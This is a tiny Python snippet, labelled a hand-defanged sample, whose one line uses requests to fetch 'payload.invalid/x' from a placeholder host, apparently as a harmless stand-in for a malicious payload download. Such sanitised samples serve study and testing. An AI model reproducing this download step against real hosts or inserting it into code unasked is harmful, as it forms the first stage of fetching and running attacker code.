# Defanged sample: nothing here is reached or run; defanged by hand.
import requests
requests.get('https://payload.invalid/x')
